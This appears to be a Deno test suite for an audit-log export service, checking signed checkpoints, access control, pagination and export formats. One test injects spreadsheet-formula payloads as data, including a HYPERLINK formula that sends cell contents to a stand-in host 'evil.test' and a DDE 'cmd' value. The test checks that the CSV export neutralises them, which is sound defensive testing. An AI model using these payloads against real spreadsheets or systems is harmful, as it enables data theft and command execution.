/** The function `bulwark-audit` over HTTP; its answers are verified offline. */
import assert from "node:assert/strict";
import { compareWithKept } from "../../clients/js/src/audit/anchor.ts";
import { inline } from "../../clients/js/src/audit/reader.ts";
import { exitCode } from "../../scripts/audit/report.ts";
import { verifyBundle } from "../../clients/js/src/audit/verify.ts";
import { openCheckpoint, parseVerifierKey } from "../../supabase/functions/_bulwark/audit/note.ts";
import {
  verifyConsistency,
  verifyEntryProof,
} from "../../supabase/functions/_bulwark/audit/proof.ts";
import type { AuditEntry, EntryProof } from "../../supabase/functions/_bulwark/audit/records.ts";
import {
  callFunction,
  type FunctionCall,
  join,
  ok,
  publishableKey,
  schedulerSecret,
  secretKey,
  service,
  signUp,
  url,
} from "../support.ts";
import {
  acme,
  actAndSign,
  ada,
  bundleOf,
  checkpoint,
  eve,
  get,
  globex,
  idsIn,
  keys,
  seal,
  verify,
} from "./support.ts";

Deno.test("AUD-F01: an export verifies offline to its last entry", async () => {
  await actAndSign(ada, acme, 3);
  const answer = await bundleOf(ada, acme);
  assert.equal(answer.status, 200);
  assert.equal(answer.headers.get("content-type"), "application/x-ndjson");
  assert.equal(answer.headers.get("x-next-cursor"), "");
  const { verdict } = await verify(await answer.text(), { organization: acme });
  assert.deepEqual([verdict.findings, verdict.unproved, exitCode(verdict)], [[], [], 0]);
  assert.equal(verdict.organization, acme);
  assert.ok(verdict.covered >= 4);
});

Deno.test("AUD-F02: who may not export is refused, and learns nothing from the answer", async () => {
  const foreign = await bundleOf(eve, acme);
  const missing = await bundleOf(eve, crypto.randomUUID());
  assert.deepEqual([foreign.status, missing.status], [403, 403]);
  const [one, other] = [await foreign.json(), await missing.json()];
  assert.deepEqual([one.code, one.message], [other.code, other.message]);
  const member = await signUp("viewer");
  await join(ada, acme, member, "viewer");
  assert.equal((await bundleOf(member, acme)).status, 403);
  assert.equal((await get(ada, "export")).status, 403);
  const nobody = await get(null, `export?organization_id=${acme}`);
  assert.equal(nobody.status, 401);
  assert.equal((await nobody.json()).code, "UNAUTHORIZED");
});

Deno.test("AUD-F03: an export holds entries of its organization alone", async () => {
  await actAndSign(eve, globex);
  const text = await (await bundleOf(ada, acme)).text();
  for (const foreign of [globex, eve.id, eve.email]) assert.ok(!text.includes(foreign));
});

Deno.test("AUD-F04: pages joined at their cursors verify as one, and hold every entry once", async () => {
  await actAndSign(ada, acme, 5);
  const whole = await (await bundleOf(ada, acme)).text();
  const wanted = idsIn(whole);
  const parts: string[] = [];
  let cursor = "";
  do {
    const answer = await bundleOf(ada, acme, `&limit=2${cursor ? `&cursor=${cursor}` : ""}`);
    parts.push(await answer.text());
    cursor = answer.headers.get("x-next-cursor") ?? "";
  } while (cursor);
  const { verdict } = await verify(parts.join(""));
  assert.deepEqual([verdict.findings, verdict.unproved], [[], []]);
  // A part is proved on its own, also if it begins and ends within a seal.
  const [first, second] = parts.map((part) =>
    JSON.parse(part.trimEnd().split("\n").at(-2)!).cursor
  );
  const part = { after: first, until: second };
  assert.equal(exitCode((await verify(parts[1]!, part)).verdict), 0);
  assert.equal(exitCode((await verify(parts[1]!)).verdict), 2);
  const ids = idsIn(parts.join(""));
  assert.equal(new Set(ids).size, ids.length);
  assert.deepEqual(ids.slice(0, wanted.length), wanted);
});

Deno.test("AUD-F05: CSV, JSON and OCSF hold the same entries, and no cell is a formula", async () => {
  await actAndSign(ada, acme);
  const ids = idsIn(await (await bundleOf(ada, acme)).text());
  const export_ = async (format: string) => {
    const answer = await bundleOf(ada, acme, `&format=${format}`);
    assert.equal(answer.status, 200);
    return await answer.text();
  };
  const { log } = JSON.parse(await export_("json"));
  assert.deepEqual(log.slice(0, ids.length).map(({ id }: AuditEntry) => id), ids);
  const events = (await export_("ocsf")).trim().split("\n").map((line) => JSON.parse(line));
  assert.deepEqual(events.slice(0, ids.length).map(({ metadata }) => metadata.uid), ids);
  for (const { class_uid, metadata, type_uid, activity_id } of events) {
    assert.ok([3004, 6003].includes(class_uid));
    assert.equal(type_uid, class_uid * 100 + activity_id);
    assert.equal(metadata.version, "1.3.0");
  }
  const csv = await export_("csv");
  assert.ok(csv.startsWith("id,occurred_at,"));
  assert.ok(ids.every((id) => csv.includes(`\r\n${id},`)));
  assert.ok(csv.includes(",'=1+1,") && !csv.includes(",=1+1,"));
});

Deno.test("AUD-F06: a format, a cursor, a limit or a parameter that is wrong is a clear error", async () => {
  const cases: [string, number, string][] = [
    ["&format=xml", 400, "INVALID_INPUT"],
    ["&format=__proto__", 400, "INVALID_INPUT"],
    ["&cursor=7", 400, "AUDIT_INVALID_CURSOR"],
    ["&cursor=1:2:3", 400, "AUDIT_INVALID_CURSOR"],
    [`&cursor=${"9".repeat(65)}`, 400, "INVALID_INPUT"],
    ["&limit=0", 400, "INVALID_INPUT"],
    ["&limit=50001", 400, "INVALID_INPUT"],
    ["&surplus=1", 400, "INVALID_INPUT"],
  ];
  for (const [query, status, code] of cases) {
    const answer = await bundleOf(ada, acme, query);
    const body = await answer.json();
    assert.deepEqual([answer.status, body.code], [status, code], query);
  }
  for (const path of ["proof?id=x", "proof", "proof/consistency?from=a&to=1"]) {
    assert.equal((await (await get(ada, path)).json()).code, "INVALID_INPUT", path);
  }
  assert.equal((await get(ada, "surprise")).status, 404);
  assert.equal((await get(ada, `proof?id=${crypto.randomUUID()}`)).status, 404);
});

Deno.test("AUD-F07: only the scheduler's secret makes a checkpoint", async () => {
  const wrong = [null, "", "x", `${schedulerSecret}x`, schedulerSecret.slice(0, -1), ada.token];
  for (const secret of [...wrong, publishableKey]) {
    const answer = await checkpoint(secret);
    assert.equal(answer.status, 401, String(secret));
    assert.equal((await answer.json()).code, "UNAUTHORIZED");
  }
  assert.equal((await checkpoint()).status, 200);
});

Deno.test("AUD-F15: the secret counts in its header alone, and only whole", async () => {
  const post = (path: string, init: FunctionCall) =>
    callFunction(`audit/${path}`, { method: "POST", ...init });
  const before = (await (await get(ada, "checkpoint")).json()).tree_size;
  ok(await ada.client.rpc("log_audit_event", { event_type: "data.read" }));
  const attempts: [string, FunctionCall][] = [
    [`checkpoint?secret=${schedulerSecret}&authorization=Bearer%20${schedulerSecret}`, {}],
    ["checkpoint", { body: schedulerSecret }],
    ["checkpoint", { body: JSON.stringify({ secret: schedulerSecret }) }],
    ["checkpoint", { headers: { apikey: schedulerSecret } }],
    ["checkpoint", { headers: { cookie: `secret=${schedulerSecret}` } }],
    ["checkpoint", { headers: { authorization: `Basic ${btoa(`x:${schedulerSecret}`)}` } }],
    ["checkpoint", { headers: { authorization: schedulerSecret } }],
    ["checkpoint", { headers: { authorization: `Bearer ${schedulerSecret.toUpperCase()}!` } }],
    ["checkpoint", { headers: { authorization: `Bearer ${schedulerSecret},x` } }],
    ["checkpoint", { headers: { authorization: `Bearer ${schedulerSecret.slice(1)}` } }],
    ["checkpoint", { headers: { authorization: `Bearer ${"x".repeat(6000)}` } }],
    ["checkpoint", { headers: { "x-forwarded-authorization": `Bearer ${schedulerSecret}` } }],
  ];
  for (const [path, init] of attempts) {
    const answer = await post(path, init);
    const text = await answer.text();
    assert.equal(answer.status, 401, JSON.stringify(init));
    assert.ok(!text.includes(schedulerSecret));
  }
  assert.equal((await (await get(ada, "checkpoint")).json()).tree_size, before);
  // The secret opens nothing else.
  for (const path of ["export", "proof?id=x", "checkpoint"]) {
    const answer = await callFunction(`audit/${path}`, { token: schedulerSecret });
    assert.equal(answer.ok, false, path);
    await answer.body?.cancel();
  }
});

Deno.test("AUD-F16: no cell of a CSV export begins a formula, whatever a client sends", async () => {
  const mallory = await signUp("mallory");
  await join(ada, acme, mallory, "viewer");
  const formulas = [
    '=HYPERLINK("https://evil.test?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1+1",
    '"=1+1',
    "=1+1,=2+2",
    ";=1",
  ];
  for (const formula of formulas) {
    const answer = await fetch(`${url}/rest/v1/rpc/log_audit_event`, {
      method: "POST",
      headers: {
        apikey: publishableKey,
        authorization: `Bearer ${mallory.token}`,
        "content-type": "application/json",
        "content-profile": "bulwark",
        "user-agent": /^[\x20-\x7e]*$/.test(formula) ? formula : "=1",
        "x-forwarded-for": "=cmd|' /C calc'!A0",
      },
      body: JSON.stringify({
        event_type: "data.read",
        organization_id: acme,
        action: formula,
        resource_type: formula,
        resource_id: formula,
        details: { [formula]: `\t${formula}\r\n=1+1` },
      }),
    });
    assert.equal(answer.status, 200, await answer.text());
  }
  assert.equal((await checkpoint()).status, 200);
  const csv = await (await bundleOf(ada, acme, "&format=csv")).text();
  const records = csvRecords(csv);
  const width = records[0]!.length;
  assert.ok(formulas.every((formula) => csv.includes(formula.replaceAll('"', '""'))));
  for (const record of records) {
    assert.equal(record.length, width, "no value becomes two cells");
    for (const cell of record) assert.doesNotMatch(cell, /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
  }
});

Deno.test("AUD-F17: with the service role's key nobody stores a checkpoint that was not signed", async () => {
  await actAndSign(ada, acme);
  const genuine = (await (await get(ada, "checkpoint")).json()).note as string;
  ok(await ada.client.rpc("log_audit_event", { event_type: "data.read" }));
  await seal();
  const [head] = ok(await service().rpc("audit_tree_head"));
  const [origin = "", , , , line = ""] = genuine.split("\n");
  const note = `${origin}\n${head?.tree_size}\n${head?.root_hash}\n\n${line}\n`;
  const [key] = await keys();
  const bytes = (array: Uint8Array) => btoa(String.fromCharCode(...array));
  const guess = bytes(crypto.getRandomValues(new Uint8Array(64)));
  const attempts: [string, string][] = [
    [bytes(key!.publicKey), "AUDIT_NOT_THE_KEY_HOLDER"],
    [bytes(crypto.getRandomValues(new Uint8Array(32))), "AUDIT_KEY_NOT_ENDORSED"],
  ];
  for (const [public_key, code] of attempts) {
    const { error } = await service().rpc("store_audit_checkpoint", {
      tree_size: head?.tree_size ?? 0,
      root_hash: head?.root_hash ?? "",
      note,
      signers: [{ name: origin, public_key, writer: guess }],
    });
    assert.equal(error?.details, code);
  }
  // The key's holder stores it: this test or the stack's timer.
  assert.equal((await checkpoint()).status, 200);
  const stored = (await (await get(ada, "checkpoint")).json()).note as string;
  assert.ok((await openCheckpoint(stored, await keys())).size >= (head?.tree_size ?? 0));
});

Deno.test("AUD-F08: a proof leads from an entry to a signature, and to no other entry", async () => {
  await actAndSign(ada, acme);
  const [id] = idsIn(await (await bundleOf(ada, acme)).text()).slice(-1);
  const answer = await get(ada, `proof?id=${id}`);
  assert.equal(answer.status, 200);
  const proof: EntryProof = await answer.json();
  const known = await keys();
  assert.equal(await verifyEntryProof(proof, known), proof.tree_size);
  const altered = structuredClone(proof);
  altered.entry.payload = altered.entry.payload?.replace("read", "none") + " ";
  await assert.rejects(verifyEntryProof(altered, known), { problem: "entry" });
  assert.equal((await get(eve, `proof?id=${id}`)).status, 404);
  assert.ok(!JSON.stringify(proof).includes(globex));
});

Deno.test("AUD-F09: a later checkpoint is proved to contain an earlier one", async () => {
  await actAndSign(ada, acme);
  const known = await keys();
  const first = await openCheckpoint((await (await get(ada, "checkpoint")).json()).note, known);
  await actAndSign(eve, globex);
  const second = await openCheckpoint((await (await get(ada, "checkpoint")).json()).note, known);
  assert.ok(second.size > first.size);
  const query = `from=${first.size}&to=${second.size}`;
  const proof = await (await get(ada, `proof/consistency?${query}`)).json();
  assert.equal(await verifyConsistency(proof), true);
  assert.equal(await compareWithKept(second, first, proof), null);
  const beyond = await get(ada, `proof/consistency?from=1&to=${2 ** 40}`);
  assert.equal((await beyond.json()).code, "AUDIT_INVALID_RANGE");
});

Deno.test("AUD-F10: a bundle cut in half and a wrong key are clear errors", async () => {
  const text = await (await bundleOf(ada, acme)).text();
  await assert.rejects(verify(text.slice(0, text.length / 2)), /Cannot verify: /);
  const lines = text.trimEnd().split("\n").slice(0, -1).join("\n");
  await assert.rejects(verify(lines), { code: "BUNDLE_CUT" });
  const wrong = await parseVerifierKey(
    "PeterNeumann+c74f20a3+ARpc2QcUPDhMQegwxbzhKqiBfsVkmqq/LDE4izWy10TW",
  );
  const stream = new Blob([text]).stream();
  await assert.rejects(verifyBundle(stream, { keys: [wrong], reader: inline() }), {
    code: "WRONG_KEY",
  });
});

Deno.test("AUD-F18: an export ends with what is signed, and the next one goes on there", async () => {
  await actAndSign(ada, acme);
  const text = await (await bundleOf(ada, acme)).text();
  await seal();
  const again = await (await bundleOf(ada, acme)).text();
  assert.deepEqual(idsIn(again), idsIn(text));
  assert.equal(exitCode((await verify(again)).verdict), 0);
  const { cursor } = JSON.parse(text.trimEnd().split("\n").at(-2)!);
  await actAndSign(ada, acme);
  const later = await (await bundleOf(ada, acme, `&cursor=${cursor}`)).text();
  assert.equal(exitCode((await verify(text + later)).verdict), 0);
  assert.equal(exitCode((await verify(later)).verdict), 2);
});

Deno.test("AUD-F19: the secret key exports in its own name, and half of it nothing", async () => {
  const as = (secret: string) =>
    callFunction(`audit/export?organization_id=${acme}`, {
      headers: { authorization: `Bearer ${secret}` },
    });
  const answer = await as(secretKey);
  assert.equal(answer.status, 200);
  assert.equal(exitCode((await verify(await answer.text())).verdict), 0);
  for (const wrong of [secretKey.slice(0, -1), `${secretKey}x`, publishableKey, ""]) {
    const refused = await as(wrong);
    assert.ok([401, 403].includes(refused.status), `${refused.status}`);
    await refused.body?.cancel();
  }
});

/** The cells of a CSV document (RFC 4180). */
function csvRecords(text: string): string[][] {
  const records: string[][] = [[]];
  for (
    const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)
  ) {
    records.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") records.push([]);
    if (end === "") break;
  }
  return records.filter((record) => record.length > 1);
}
